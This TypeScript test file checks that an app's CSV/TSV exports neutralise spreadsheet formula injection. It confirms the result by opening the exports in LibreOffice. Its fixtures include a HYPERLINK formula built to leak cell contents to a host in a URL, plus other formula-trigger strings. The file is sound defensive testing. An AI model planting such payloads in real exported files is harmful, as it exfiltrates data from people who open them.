import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportDataset } from '../../src/data/exporters/export-dataset';
import { register } from '../../src/main/cli/commands/export';
import { startHost, type Host } from '../../src/main/host/server';
import { createServices, type Services } from '../../src/main/services/index';
import type { ExecutionRecord } from '../../src/shared/job';
import type { TableMeta } from '../../src/shared/metadata';
import type { Row } from '../../src/shared/values';
import { runCommand } from '../helpers/cli-command';
import { finishedExecution } from '../helpers/finished-execution';

// Text cells a spreadsheet would run as formulas (OWASP "CSV injection"), beside numbers that
// look alike: a negative amount must stay a number.
const notes: TableMeta = {
  name: 'notes',
  primaryKey: ['id'],
  rowCount: 0,
  columns: [
    { name: 'id', storageType: 'integer', sdtype: 'id', nullable: false },
    { name: 'note', storageType: 'string', sdtype: 'text', nullable: true },
    { name: 'amount', storageType: 'float', sdtype: 'numerical', nullable: true },
    { name: '@who', storageType: 'text', sdtype: 'categorical', nullable: true },
  ],
};
const LEAK = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click")';
const texts = [LEAK, '+1+2', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1', 'plain', "It's = fine"];
const rows: Row[] = texts.map((t, i) => [i + 1, t, [-3.5, 2.25, -1, 0, 1, 1, null, 3][i]!, i % 2 ? '-x' : 'ann']);

const dir = mkdtempSync(join(tmpdir(), 'doppel-formulas-'));
let services: Services;
let host: Host;
let execution: ExecutionRecord;

beforeAll(async () => {
  services = createServices({ storeDir: join(dir, 'store') });
  execution = await finishedExecution(services.store, notes, rows);
  const staticDir = join(dir, 'renderer');
  mkdirSync(staticDir);
  writeFileSync(join(staticDir, 'index.html'), '<!doctype html><title>Doppel</title>');
  host = await startHost({ backend: services.backend, staticDir });
});
afterAll(async () => {
  await host?.close();
  await services?.close();
  rmSync(dir, { recursive: true, force: true });
});

function get(url: string): Promise<{ status: number; body: Buffer }> {
  return new Promise((resolve, reject) => {
    request(url, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body: Buffer.concat(chunks) }));
    })
      .on('error', reject)
      .end();
  });
}

const csvRows = (text: string, delimiter = ','): string[][] => parse(text, { delimiter, relax_column_count: false }) as string[][];

describe('CSV/TSV downloads cannot run formulas', () => {
  it('text cells starting with = + - @ tab or CR get a leading apostrophe; numbers, plain text and the opt-out stay as they are', async () => {
    const output = execution.outputPath!;
    for (const [format, delimiter] of [
      ['csv', ','],
      ['tsv', '\t'],
    ] as const) {
      const safe = join(dir, `safe.${format}`);
      await exportDataset(output, ['notes'], format, safe);
      const got = csvRows(readFileSync(safe, 'utf8'), delimiter);
      expect(got[0]).toEqual(['id', 'note', 'amount', "'@who"]);
      expect(got.slice(1).map((r) => r[1])).toEqual([...texts.slice(0, 6).map((t) => `'${t}`), 'plain', "It's = fine"]);
      expect(got.slice(1).map((r) => r[2])).toEqual(['-3.5', '2.25', '-1', '0', '1', '1', '', '3']);
      expect(got.slice(1).map((r) => r[3])).toEqual(rows.map((r) => (r[3] === '-x' ? "'-x" : 'ann')));

      const raw = join(dir, `raw.${format}`);
      await exportDataset(output, ['notes'], format, raw, { allowFormulas: true });
      expect(
        csvRows(readFileSync(raw, 'utf8'), delimiter)
          .slice(1)
          .map((r) => r[1]),
      ).toEqual(texts);
    }
  });

  it('doppel export neutralises by default and writes formulas only with --allow-formulas', async () => {
    const safe = join(dir, 'cli-safe.csv');
    const raw = join(dir, 'cli-raw.csv');
    expect((await runCommand((p) => register(p), ['export', execution.outputPath!, '--format', 'csv', '--out', safe])).exitCode).toBe(0);
    expect((await runCommand((p) => register(p), ['export', execution.outputPath!, '--format', 'csv', '--out', raw, '--allow-formulas'])).exitCode).toBe(0);
    expect(csvRows(readFileSync(safe, 'utf8'))[1]![1]).toBe(`'${LEAK}`);
    expect(csvRows(readFileSync(raw, 'utf8'))[1]![1]).toBe(LEAK);
  });

  it('LibreOffice opens the app’s CSV download and reads the cell back as text (the opt-out gives a live formula)', async () => {
    const base = `http://127.0.0.1:${host.port}/download/${execution.id}/csv?token=${host.token}`;
    const safe = await get(base);
    const raw = await get(`${base}&formulas=allow`);
    expect([safe.status, raw.status]).toEqual([200, 200]);
    const books = join(dir, 'books');
    mkdirSync(books);
    writeFileSync(join(books, 'safe.csv'), safe.body);
    writeFileSync(join(books, 'raw.csv'), raw.body);
    // LibreOffice's CSV import evaluates formulas by default, as a user double-clicking the file gets.
    execFileSync(
      'soffice',
      [
        `-env:UserInstallation=file://${join(dir, 'lo-profile')}`,
        '--headless',
        '--convert-to',
        'xlsx',
        '--outdir',
        books,
        join(books, 'safe.csv'),
        join(books, 'raw.csv'),
      ],
      { stdio: 'ignore', timeout: 120_000 },
    );
    const read = async (name: string): Promise<ExcelJS.Worksheet> => {
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.readFile(join(books, `${name}.xlsx`));
      return wb.worksheets[0]!;
    };
    const safeSheet = await read('safe');
    for (let r = 2; r <= 7; r++) {
      const cell = safeSheet.getCell(r, 2);
      expect(cell.formula).toBeUndefined();
      expect(cell.type).toBe(ExcelJS.ValueType.String);
    }
    expect(safeSheet.getCell(2, 2).value).toBe(`'${LEAK}`);
    expect(safeSheet.getCell(2, 3).value).toBe(-3.5);
    expect(safeSheet.getCell(4, 3).value).toBe(-1);
    const rawSheet = await read('raw');
    expect(rawSheet.getCell(2, 2).formula).toContain('HYPERLINK');
  }, 180_000);
});
